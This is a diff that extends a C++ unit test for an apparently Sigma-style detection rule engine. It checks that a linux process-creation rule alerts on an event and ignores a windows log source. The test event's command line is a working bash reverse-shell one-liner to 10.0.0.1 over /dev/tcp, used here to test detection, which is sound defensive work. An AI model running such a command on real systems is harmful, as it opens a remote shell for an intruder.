@@ -37,4 +37,15 @@ TEST_CASE("rule metadata for alerts") {
   CHECK(info.tactic_ids == std::vector<std::string>{"TA0002"});
   CHECK(info.source.category == "process_creation");
   CHECK(info.file == "r.yml");
+  sr::field_view ev(rs.fields());
+  ev.add(sr::normalize_field_name("Command Line"), "bash -i >& /dev/tcp/10.0.0.1/80 0>&1");
+  sr::match_scratch scratch;
+  std::vector<sr::match_result> out;
+  rs.evaluate(rs.bucket({"linux", "process_creation", ""}), ev, scratch, out);
+  REQUIRE(out.size() == 1);
+  CHECK(out[0].info->author == "Alice, Bob");
+  CHECK(out[0].alert);
+  out.clear();
+  rs.evaluate(rs.bucket({"windows", "process_creation", ""}), ev, scratch, out);
+  CHECK(out.empty());  // logsource does not apply
 }
